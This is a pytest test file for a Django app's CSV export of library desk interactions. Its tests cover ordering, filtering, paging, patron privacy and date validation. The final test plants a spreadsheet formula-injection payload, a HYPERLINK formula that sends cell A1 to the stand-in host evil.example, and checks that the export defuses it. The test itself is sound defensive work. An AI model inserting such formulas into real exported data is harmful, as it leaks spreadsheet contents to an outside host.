"""The CSV export: the filtered interactions, in time order, local times, and nothing about the patron."""

import csv
import io

import pytest
from asgiref.sync import sync_to_async
from django.db import connections
from django.urls import reverse

from analytics import export
from analytics.export import HEADER

URL = reverse("analytics:export_csv")
RANGE = {"start": "2026-03-02", "end": "2026-03-15"}


def rows_of(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def signed_in(client, sam):
    client.force_login(sam)
    return client


def test_it_streams_the_interactions_of_the_range_in_time_order(signed_in, fixed_interactions):
    response = signed_in.get(URL, RANGE)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="interactions-20260302-20260315.csv"'
    rows = rows_of(response)
    assert [(r["date"], r["time"]) for r in rows] == [
        ("2026-03-02", "10:15"),
        ("2026-03-02", "10:40"),
        ("2026-03-03", "14:05"),
        ("2026-03-08", "23:30"),
        ("2026-03-09", "09:00"),
        ("2026-03-15", "16:20"),
    ]
    assert rows[0] == {
        "id": str(fixed_interactions[0].pk),
        "date": "2026-03-02",
        "time": "10:15",
        "weekday": "Monday",
        "mode": "In person",
        "location": "Main desk",
        "duration_minutes": "5",
        "department": "Research & Instruction",
        "operator": "alice",
        "question_type": "Directional",
        "read_scale": "1",
        "patron_type": "",
        "referral_source": "",
        "referred_by": "",
    }
    assert rows[3]["question_type"] == rows[3]["read_scale"] == ""


def test_it_exports_no_patron_identity_and_no_free_notes(signed_in, fixed_interactions, fixed_chats):
    fixed_interactions[2].chat = fixed_chats[0]
    fixed_interactions[2].save()
    body = b"".join(signed_in.get(URL, RANGE).streaming_content).decode()
    assert body.splitlines()[0] == ",".join(HEADER)
    for secret in ["Pat Patron", "pat@example.org", "asked about this", str(fixed_chats[0].pk)]:
        assert secret not in body


def test_it_applies_the_filters(signed_in, fixed_interactions, carmen):
    rows = rows_of(signed_in.get(URL, {**RANGE, "operator": carmen.pk, "mode": "chat"}))
    assert [(r["date"], r["operator"], r["mode"]) for r in rows] == [("2026-03-15", "carmen", "Chat")]


def test_it_pages_through_equal_timestamps_without_losing_or_repeating_rows(signed_in, fixed_interactions, monkeypatch):
    same_minute = fixed_interactions[1]
    same_minute.happened_at = fixed_interactions[0].happened_at
    same_minute.save()
    monkeypatch.setattr(export, "CHUNK_SIZE", 2)
    rows = rows_of(signed_in.get(URL, RANGE))
    assert [int(r["id"]) for r in rows] == sorted(i.pk for i in fixed_interactions[:6])


def test_it_refuses_a_bad_range(signed_in, db):
    assert signed_in.get(URL, {"start": "2026-03-15", "end": "2026-03-01"}).status_code == 400


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_it_streams_asynchronously_under_asgi(async_client, sam, fixed_interactions):
    await async_client.aforce_login(sam)
    response = await async_client.get(URL, RANGE)
    assert response.status_code == 200
    assert response.is_async
    chunks = [chunk async for chunk in response.streaming_content]
    # The test client keeps the worker thread's connection open; close it so the test database can go.
    await sync_to_async(connections.close_all)()
    body = b"".join(chunks).decode()
    assert len(body.splitlines()) == 1 + 6


def test_it_refuses_dates_beyond_the_years_of_the_desk_with_a_form_error(signed_in, db):
    # The day after 9999-12-31 does not exist: this was a 500.
    for query in (
        {"start": "9999-01-01", "end": "9999-12-31"},
        {"start": "0001-01-01", "end": "0001-01-02"},
    ):
        for url in (URL, reverse("analytics:reports")):
            response = signed_in.get(url, query)
            assert response.status_code == 400, (url, query)
            assert b"Choose a date between the years 1900 and 2999." in response.content


def test_it_keeps_text_cells_from_starting_a_spreadsheet_formula(signed_in, fixed_interactions, choices):
    first = fixed_interactions[0]
    first.referred_by = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    first.save()
    choices["desk"].name = "@SUM(1+1)"
    choices["desk"].save()
    rows = rows_of(signed_in.get(URL, RANGE))
    assert rows[0]["referred_by"] == "'" + first.referred_by
    assert rows[0]["location"] == "'@SUM(1+1)"
    # Numbers are numbers, and ordinary text is untouched.
    assert rows[0]["duration_minutes"] == "5" and rows[0]["department"] == "Research & Instruction"
